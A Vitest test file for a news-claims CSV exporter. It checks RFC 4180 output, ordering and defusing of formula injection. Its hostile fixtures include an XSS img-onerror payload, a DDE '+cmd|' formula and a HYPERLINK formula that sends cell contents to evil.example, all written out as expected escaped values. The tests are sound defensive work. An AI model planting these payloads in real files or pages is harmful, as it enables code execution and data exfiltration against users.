import { describe, expect, test } from 'vitest'
import { buildClaimsCsv } from '../../../src/main/services/export'
import { parseCsvStrict } from '../helpers/rfc4180'
import { buildFixture, EXTRA_CLAIMS, GOLD, goldClaimId, HOSTILE, SEED_TEXT } from './fixture'

const HEADER = ['claim_id', 'article_id', 'article_title', 'outlet', 'published_at', 'kind', 'speakers', 'targets', 'event', 'quote', 'note', 'cue', 'tags', 'start', 'end', 'created_at', 'updated_at']

function parse(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true)
  const [header, ...rows] = parseCsvStrict(csv.slice(1))
  expect(header).toEqual(HEADER)
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
}

describe('buildClaimsCsv', () => {
  const input = buildFixture()
  const csv = buildClaimsCsv(input)
  const rows = parse(csv)
  const byId = new Map(rows.map((r) => [r.claim_id, r]))

  test('is RFC 4180 with a BOM, CRLF record ends and one row per claim', () => {
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${HEADER.join(',')}`)
    expect(rows).toHaveLength(GOLD.claims.length + Object.keys(EXTRA_CLAIMS).length + 3)
  })

  test('gives every gold claim exactly, with names joined and text intact', () => {
    GOLD.claims.forEach((gold, i) => {
      const start = SEED_TEXT.indexOf(gold.quote)
      expect(byId.get(goldClaimId(i))).toEqual({
        claim_id: goldClaimId(i),
        article_id: 'bad-to-worse',
        article_title: 'Russia sees relations with US going ‘from bad to worse’',
        outlet: 'American Military News',
        published_at: '2020-12-24T10:12:00-05:00',
        kind: gold.kind,
        speakers: gold.speakers.join('; '),
        targets: gold.targets.join('; '),
        event: gold.event,
        quote: gold.quote,
        note: '',
        cue: '',
        tags: '',
        start: String(start),
        end: String(start + gold.quote.length),
        created_at: '',
        updated_at: '',
      })
    })
    expect(byId.get('gold-01')!.quote).toContain('“Russophobia”')
    expect(byId.get('gold-04')!.quote).toContain('Putin\u00a0congratulated')
    expect(byId.get('gold-17')!.speakers).toBe('Mike Pompeo; William Barr')
  })

  test('keeps commas and line breaks inside quoted fields', () => {
    expect(byId.get('nestedOuter')!.tags).toBe('framing; sanctions, 2020')
    const twoParagraphs = byId.get('twoParagraphs')!
    expect(twoParagraphs.quote).toBe(SEED_TEXT.slice(SEED_TEXT.indexOf('Trump has downplayed')))
    expect(twoParagraphs.quote).toContain('spree.\n\nThe Kremlin')
    expect(twoParagraphs.speakers).toBe('Donald Trump; Kremlin')
    expect(byId.get('h-img')!.quote).toBe('"><img src=x onerror=alert(1)>')
    expect(byId.get('h-img')!.outlet).toBe(HOSTILE.outlet)
  })

  test('defuses cells a spreadsheet would run as a formula', () => {
    const formula = byId.get('h-formula')!
    expect(formula.quote).toBe(`'${HOSTILE.formulaQuote}`)
    expect(formula.note).toBe("'+cmd|' /C calc'!A0")
    expect(formula.cue).toBe("'-2+3")
    expect(formula.tags).toBe("'\tTabbed; =1+1")
    expect(byId.get('h-script')!.note).toBe("'@SUM(1+1)")
    expect(byId.get('h-img')!.note).toBe("'\rreturn")
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1,""open"")"`)
    for (const row of rows) for (const field of Object.values(row)) expect(field).not.toMatch(/^[=+\-@\t\r]/)
  })

  test('orders rows by article date then title (undated last), and claims by start', () => {
    expect([...new Set(rows.map((r) => r.article_id))]).toEqual(['hostile', 'bad-to-worse'])
    for (const id of ['hostile', 'bad-to-worse']) {
      const starts = rows.filter((r) => r.article_id === id).map((r) => Number(r.start))
      expect(starts).toEqual([...starts].sort((a, b) => a - b))
    }
    const [seed] = input.articles
    const variant = (id: string, title: string, publishedAt: string) => ({ ...seed, id, title, publishedAt })
    const reordered = parse(
      buildClaimsCsv({ ...input, articles: [variant('undated', 'A', ''), variant('b', 'B', '2020-12-24'), variant('a', 'A', '2020-12-24')] }),
    )
    expect([...new Set(reordered.map((r) => r.article_id))]).toEqual(['a', 'b', 'undated'])
  })

  test('writes only the header for an empty workspace', () => {
    expect(buildClaimsCsv({ ...input, articles: [] })).toBe(`\uFEFF${HEADER.join(',')}\r\n`)
  })
})
